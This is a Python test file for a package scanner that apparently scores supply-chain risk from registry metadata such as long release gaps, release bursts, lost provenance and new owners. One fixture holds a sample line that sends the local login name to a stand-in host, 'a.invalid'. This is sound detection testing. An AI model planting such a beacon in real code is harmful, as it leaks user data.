"""What a registry knows about how a release came."""

from __future__ import annotations

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from antivenom.context import surround
from antivenom.context.known_names import KnownNames
from antivenom.context.registry import BURST, registry_facts
from antivenom.intake.files import from_bytes
from antivenom.judge import load_knowledge
from antivenom.model.context import NOTHING, Context, RegistryInfo, UploadInfo
from antivenom.model.moments import moment
from antivenom.pipeline import judge, observe
from tests.context.made import profile


def told(uploaded: str = "", **known: object) -> list[tuple[str, str]]:
    info = msgspec.convert(known, RegistryInfo)
    context = Context(registry=info, upload=UploadInfo(uploaded=uploaded))
    return [(fact.id, fact.value) for fact in registry_facts(profile("demo.py"), context)]


def test_nothing_known_is_nothing_told() -> None:
    assert list(registry_facts(profile(), NOTHING)) == []
    assert told() == []


def test_a_release_after_years_of_silence() -> None:
    before = "2023-01-02T03:04:05.678Z"
    assert told("2026-01-01T00:00:00Z", previous_release=before) == [
        ("change.long-silence", "1094 days after the one before")
    ]
    assert told("2023-03-01T00:00:00Z", previous_release=before) == []
    assert told("", previous_release=before) == []


def test_a_burst_of_releases() -> None:
    assert told(recent_releases=BURST - 1) == []
    assert told(recent_releases=BURST) == [("change.burst", f"{BURST} releases in the hour before")]


@pytest.mark.parametrize(
    ("now", "before", "lost"),
    [(False, True, True), (True, True, False), (None, True, False), (False, False, False)],
)
def test_lost_provenance(now: bool | None, before: bool | None, lost: bool) -> None:
    assert bool(told(attested=now, attested_before=before)) is lost


def test_a_new_owner() -> None:
    assert told(new_owners=["somebody"]) == [("change.maintainer", "somebody")]


@pytest.mark.parametrize(
    "text", ["", "yesterday", "2026-13-41", "9" * 500, "2026-01-01T00:00:00Zx"]
)
def test_a_moment_that_is_none(text: str) -> None:
    assert moment(text) is None


CODE = b"import os, urllib.request\nurllib.request.urlopen('http://a.invalid/?' + os.getlogin())\n"
OBSERVED = observe(from_bytes(CODE, "one.py"))

infos = st.builds(
    RegistryInfo,
    releases=st.integers(0, 500),
    recent_releases=st.integers(0, 50),
    previous_release=st.sampled_from(["", "2020-01-01T00:00:00Z", "2026-01-01T00:00:00Z", "x"]),
    first_release=st.sampled_from(["", "2010-01-01T00:00:00Z"]),
    owners=st.tuples(st.text(max_size=5)),
    new_owners=st.one_of(st.just(()), st.tuples(st.text(max_size=5))),
    attested=st.sampled_from([True, False, None]),
    attested_before=st.sampled_from([True, False, None]),
)


@given(infos)
def test_what_a_registry_knows_never_lowers_a_score(info: RegistryInfo) -> None:
    context = Context(registry=info, upload=UploadInfo(uploaded="2026-06-01T00:00:00Z"))
    knowledge = load_knowledge()
    plain = judge(OBSERVED, NOTHING, knowledge)
    assert judge(OBSERVED, context, knowledge).score >= plain.score


@given(infos)
def test_provenance_never_lowers_a_score(info: RegistryInfo) -> None:
    knowledge = load_knowledge()
    scores = [
        judge(
            OBSERVED, Context(registry=msgspec.structs.replace(info, attested=attested)), knowledge
        ).score
        for attested in (None, True)
    ]
    assert scores[1] >= scores[0] or info.attested_before is None
    assert scores[0] == scores[1]


def test_facts_are_only_added() -> None:
    context = Context(registry=RegistryInfo(recent_releases=9))
    around = surround(OBSERVED, context, KnownNames())
    assert around[: len(OBSERVED.facts)] == OBSERVED.facts
    assert [fact.id for fact in around[len(OBSERVED.facts) :]] == ["change.burst"]
